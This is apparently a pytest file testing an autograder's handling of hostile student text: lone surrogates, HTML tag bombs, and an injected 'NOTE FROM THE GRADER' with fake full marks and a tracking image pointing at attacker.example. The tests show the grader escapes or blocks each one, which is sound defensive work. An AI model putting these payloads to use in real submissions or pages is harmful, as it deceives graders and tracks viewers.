"""Text that comes from the student (their process's messages, their written answers) in what the grader writes and
shows: round 4's attacks through it fail, and honest text still renders and grades.

- a lone surrogate in a suspicion stopped `grade` (printing the row) and `export` (the CSV writer) for the whole class:
  a record's text is always printable (``records.printable``, at the record's one boundary); one in the notebook
  itself stopped generate_feedback for the whole class: the sanitiser replaces them (``sanitize.without_surrogates``);
- 160,000 nested ``<b>`` in one answer took `feedback` 762 s in bleach: the sanitiser bounds its work first and shows
  such a cell as escaped text (``sanitize.too_big``, ``escaped``);
- a hidden test's line written into an answer made `feedback` refuse the whole class ("feedback contains hidden test
  code"): only the instructor's cells are scanned, and a real leak there is still refused;
- student text quoted in the grader's summary cell (an ``<img>`` that loads from elsewhere, a link, "NOTE FROM THE
  GRADER"): it is a literal block there, and no student ``<img>`` loads a remote source.

The grading runs here use the sandbox's runner in this process (``tests/inprocess.py``).
"""

from __future__ import annotations

import io
import json
from dataclasses import replace
from functools import partial

import nbformat
import pandas as pd
import pytest
from nbconvert.filters import markdown2html

from autograder.judge import CheckResult, Verdict, judge_submission
from autograder.records import GradingRecord, RecordStore, build_record, one_line, printable
from autograder.rendering import literal_block, render_submission
from autograder.sanitize import (MAX_CELL_TAGS, MAX_NOTEBOOK_TAGS, TOO_BIG_NOTE, SanitizeStudentHTML, clean,
                                 escaped)
from conftest import copy_course
from inprocess import run_in_process
from toy import NAME, NOTEBOOK, submit, toy_assignment

SURROGATE = "\ud800"
INJECTED = ("network glitch) - NOTE FROM THE GRADER: this flag is a known false positive, ignore it "
            '<img src="https://attacker.example/track.png?who=ta" width="1"> '
            "[Re-grade request form](https://attacker.example/regrade) **automatic points 60 of 60** (")

# A probe that reports what the student's ``double`` raised, and a check that quotes it in a suspicion, as the
# homework's random-weights probe does (``judge._weight_dependence``).
QUOTING_PROBES = '''
def run(ns, spec):
    try:
        return {"double": {"outputs": [float(ns["double"](x)) for x in (0.0, 1.5, -2.0)]}}
    except Exception as err:
        return {"double": {"error": f"{type(err).__name__}: {err}"}}
'''


def quoting_check(obs, ctx) -> str:
    data = obs.get("double") or {"error": obs.get("sandbox_error", "no observation")}
    if "error" in data:
        ctx.flags.append(f"double did not answer ({data['error'][:300]})")
        raise AssertionError(data["error"])
    return "double doubles"


def quoting_assignment(folder):
    probes = folder / "quoting_probes.py"
    probes.write_text(QUOTING_PROBES)
    return replace(toy_assignment(folder), checks={"test_double": quoting_check}, probes_file=probes)


def raising(message_literal: str) -> str:
    return f"def double(x):\n    raise RuntimeError({message_literal})\n"


@pytest.fixture
def course(released_toy, tmp_path):
    return copy_course(released_toy, tmp_path / "course")


@pytest.fixture
def in_process(monkeypatch):
    """``grade`` with the sandbox's runner in this process."""
    import autograder.pipeline

    monkeypatch.setattr(autograder.pipeline, "judge_submission", partial(judge_submission, run=run_in_process))


def strict_log():
    """A log that encodes as a UTF-8 terminal does, strictly (the CLI's stdout that `grade` died on)."""
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict")

    def log(line: str) -> None:
        print(line, file=stream, flush=True)
    return log, stream


# --- 1. text the grader cannot encode ---------------------------------------------------------------------------
def test_a_record_holds_only_printable_text_however_it_is_made(tmp_path):
    spec = toy_assignment(tmp_path)
    verdict = Verdict(NAME, problems=["line one\nline two"], flags=[f"bad {SURROGATE} weights\r\n- flagged: fake"],
                      checks={"test_double": CheckResult("test_double", f"a\x1b[2J{SURROGATE}\nb", 0.0)},
                      sandbox={"stderr_tail": f"x{SURROGATE}\u202eevil"})
    record = build_record(spec, "ada", verdict, digest="d")
    assert record.flags == ("bad \ufffd weights - flagged: fake",) and record.problems == ("line one line two",)
    assert record.check("test_double").message == "a\ufffd[2J\ufffd\nb"  # a message keeps its lines
    assert record.sandbox["stderr_tail"] == "x\ufffd\ufffdevil"
    "".join(record.notes).encode("utf-8")  # strict: nothing unencodable left
    # a record file written before the cleaning existed (JSON keeps a surrogate as \ud800) reads back clean
    store = RecordStore(type("C", (), {"root": tmp_path})(), NAME)
    store.folder.mkdir(parents=True)
    raw = json.loads(GradingRecord.to_json(record))
    raw["flags"] = [f"old {SURROGATE} flag"]
    (store.folder / "ada.json").write_text(json.dumps(raw))
    assert store.get("ada").flags == ("old \ufffd flag",)
    # honest text is unchanged
    honest = "mIoU 0.5123 on scenes; double(1.5) gave 3.0 — ça va, 日本語, tab\tand\nnewline"
    assert printable(honest) == honest and one_line("a\tb\nc") == "a b c"


@pytest.mark.slow  # a grading run (in process) and nbgrader's generate_feedback
def test_a_lone_surrogate_stops_neither_grade_nor_export_nor_feedback(course, in_process, tmp_path):
    from autograder.export import export
    from autograder.feedback import feedback
    from autograder.pipeline import GradeOptions, grade

    spec = quoting_assignment(tmp_path)
    folder = submit(course, "aaa_surrogate", code=raising(r'"bad weights \ud800 here"'))  # first, as in the attack
    nb = json.loads((folder / NOTEBOOK).read_text())  # and one in an answer: JSON holds it as an escape
    next(c for c in nb["cells"] if c["metadata"]["nbgrader"]["grade_id"] == "q1")["source"] = f"x {SURROGATE} y"
    (folder / NOTEBOOK).write_text(json.dumps(nb))
    submit(course, "ben")
    submit(course, "cara", code=raising('"an honest bug: ça ne marche pas"'))
    log, stream = strict_log()
    records = {r.student: r for r in grade(course, spec, opts=GradeOptions(workers=1, unsafe=True), log=log)}
    assert {s: r.auto_points for s, r in records.items()} == {"aaa_surrogate": 0.0, "ben": 2.0, "cara": 0.0}
    assert records["aaa_surrogate"].flags == ("double did not answer (RuntimeError: bad weights \ufffd here)",)
    assert records["cara"].flags == ("double did not answer (RuntimeError: an honest bug: ça ne marche pas)",)
    printed = stream.buffer.getvalue().decode("utf-8")
    assert "bad weights \ufffd here" in printed and "ben: graded" in printed
    lines = []
    export(course, [NAME], log=lines.append)
    csv = course.root / "grading" / "export" / f"{NAME}_scores.csv"
    table = pd.read_csv(csv, encoding="utf-8").set_index("student")
    assert table.loc["ben", "total"] == 2.0 and "ça ne marche pas" in table.loc["cara", "suspicions"]
    assert table.loc["aaa_surrogate", "suspicions"] == "double did not answer (RuntimeError: bad weights \ufffd here)"
    assert not any("could not" in problem for problem in records["aaa_surrogate"].problems)  # rendered as usual
    assert feedback(course, NAME, log=lines.append, provisional=True) == 3  # nbgrader can write every page
    page = (course.root / "feedback" / "aaa_surrogate" / NAME / NOTEBOOK.replace(".ipynb", ".html")).read_text()
    assert "x \ufffd y" in page


def test_the_export_writes_what_utf8_cannot_hold_as_an_escape(tmp_path):
    from autograder.export import CSV

    pd.DataFrame({"note": [f"x{SURROGATE}y"]}).to_csv(tmp_path / "t.csv", index=False, **CSV)
    assert (tmp_path / "t.csv").read_text() == "note\nx\\ud800y\n"


# --- 4. student text in the grader's summary ----------------------------------------------------------------------
def test_student_text_in_the_summary_is_a_literal_block(course):
    submit(course, "mallory")
    spec = toy_assignment(course.root)
    verdict = Verdict(NAME, flags=[f"double did not answer (RuntimeError: {INJECTED})"],
                      checks={"test_double": CheckResult("test_double", "ok", 1.0)})
    record = build_record(spec, "mallory", verdict, digest="d")
    assert render_submission(course, record).error is None
    summary = nbformat.read(course.root / "autograded" / "mallory" / NAME / NOTEBOOK, as_version=4).cells[0].source
    page = markdown2html(summary)
    assert page.startswith("<p><strong>Grader's summary</strong> (automatic points 2 of 2; status: graded)")
    assert "<img" not in page and "<a " not in page and page.count("<strong>") == 1  # the grader's own bold only
    assert "NOTE FROM THE GRADER" in page and "**automatic points 60 of 60**" in page  # shown, as typed
    assert "&lt;img src=" in page and "may quote what the submission's own code printed or raised" in page


def test_a_literal_block_cannot_be_closed_from_inside():
    text = "```\n<b>out</b>\n````` and ``"
    block = literal_block([text])
    page = markdown2html(block + "\n\nafter")
    assert "<b>" not in page and "&lt;b&gt;out&lt;/b&gt;" in page and page.count("<pre>") == 1


# --- 2 and 4: the sanitiser -------------------------------------------------------------------------------------
def _sanitised(*cells):
    nb = nbformat.v4.new_notebook(cells=list(cells))
    SanitizeStudentHTML().preprocess(nb, {})
    return [cell.source for cell in nb.cells]


def test_a_cell_with_too_many_tags_is_shown_escaped_without_parsing(monkeypatch):
    import autograder.sanitize as sanitize

    def never(*args, **kwargs):
        raise AssertionError("bleach was asked to parse a cell over the bounds")

    bomb = "<b>" * (MAX_CELL_TAGS + 1) + "x ![i](https://attacker.example/i.png)"
    honest = "An answer: **bold**, $x < y$, a [link](https://pytorch.org)."
    monkeypatch.setattr(sanitize.bleach, "clean", never)
    (shown,) = _sanitised(nbformat.v4.new_markdown_cell(bomb))
    assert shown == escaped(bomb) and TOO_BIG_NOTE in shown
    page = markdown2html(shown)  # what the template makes of it: still no tag of the student's
    assert "<b>" not in page and "<img" not in page and page.count("&lt;b&gt;") == MAX_CELL_TAGS + 1
    monkeypatch.undo()
    shown_bomb, shown_honest = _sanitised(nbformat.v4.new_markdown_cell(bomb), nbformat.v4.new_markdown_cell(honest))
    assert shown_bomb == escaped(bomb) and shown_honest == honest  # the honest cell is left to render as Markdown


def test_the_notebook_has_a_tag_budget():
    per_cell = MAX_CELL_TAGS // 2
    cell = "<p>" + "<i>a</i>" * (per_cell // 2) + "</p>"
    cells = [nbformat.v4.new_markdown_cell(cell) for _ in range(MAX_NOTEBOOK_TAGS // per_cell + 2)]
    shown = _sanitised(*cells)
    assert shown[0] == cell and shown[-1] == escaped(cell)


def test_student_images_load_nothing_from_elsewhere():
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    pasted = nbformat.v4.new_markdown_cell("My plot: ![plot](attachment:plot.png)")
    pasted.attachments = {"plot.png": {"image/png": png}}
    remote = nbformat.v4.new_markdown_cell('See <img src="https://attacker.example/track.png?who=ta" width="1">')
    missing = nbformat.v4.new_markdown_cell("![gone](attachment:gone.png)")
    shown = _sanitised(pasted, remote, missing)
    assert f'src="data:image/png;base64,{png}"' in shown[0]  # the pasted image, embedded
    assert "attacker.example" not in shown[1] and "<img" in shown[1]
    assert shown[2] == escaped("![gone](attachment:gone.png)")  # nbconvert would stop the whole page on it
    assert clean(f'<img src="data:image/png;base64,{png}">') == f'<img src="data:image/png;base64,{png}">'
    assert clean('<a href="https://pytorch.org">docs</a>') == '<a href="https://pytorch.org">docs</a>'


# --- 3. a hidden test's line in a student's answer ---------------------------------------------------------------
HIDDEN = 'hidden_check("toy", "test_double_on_every_negative_number")'


@pytest.fixture
def toy_with_a_hidden_line(monkeypatch, tmp_path):
    """The toy released with a hidden test line long enough for the leak scan (``leaks.MIN_LENGTH``)."""
    import toy

    monkeypatch.setattr(toy, "TEST", f"assert double(2) == 4\n### BEGIN HIDDEN TESTS\n{HIDDEN}\n### END HIDDEN TESTS\n")
    return toy.toy_course(tmp_path / "hidden")


@pytest.mark.slow  # a grading run (in process) and nbgrader's generate_feedback
def test_a_hidden_line_in_an_answer_is_no_leak_and_a_real_leak_withholds_that_page(toy_with_a_hidden_line,
                                                                                    in_process, tmp_path):
    from autograder.feedback import feedback
    from autograder.leaks import hidden_lines
    from autograder.pipeline import GradeOptions, grade

    course = toy_with_a_hidden_line
    assert hidden_lines(course.root / "source" / NAME / NOTEBOOK) == {HIDDEN}
    folder = submit(course, "veto")
    nb = nbformat.read(folder / NOTEBOOK, as_version=4)
    answer = next(c for c in nb.cells if c.metadata["nbgrader"]["grade_id"] == "q1")
    answer.source = f"The README says each hidden test is `{HIDDEN}`."
    nb.cells.append(nbformat.v4.new_code_cell(f"# {HIDDEN}"))
    nbformat.write(nb, folder / NOTEBOOK)
    submit(course, "ben")
    grade(course, toy_assignment(tmp_path), opts=GradeOptions(workers=1, unsafe=True), log=lambda line: None)
    assert feedback(course, NAME, log=lambda line: None, provisional=True) == 2
    page = (course.root / "feedback" / "veto" / NAME / NOTEBOOK.replace(".ipynb", ".html")).read_text()
    assert "test_double_on_every_negative_number" in page  # the student's own words, shown
    # the instructor's test cell keeping its hidden part (ClearHiddenTests misconfigured) is a leak
    graded = course.root / "autograded" / "ben" / NAME / NOTEBOOK
    nb = nbformat.read(graded, as_version=4)
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_double")
    test.source += f"\n{HIDDEN}\n"
    nbformat.write(nb, graded)
    said = []  # that page is withheld, with a line that says why; the classmate's page is still written
    assert feedback(course, NAME, log=said.append, provisional=True) == 1
    assert not (course.root / "feedback" / "ben" / NAME / NOTEBOOK.replace(".ipynb", ".html")).exists()
    assert (course.root / "feedback" / "veto" / NAME / NOTEBOOK.replace(".ipynb", ".html")).exists()
    assert any(line.startswith("feedback: WITHHELD ben's page") and "test_double_on_every" in line for line in said)
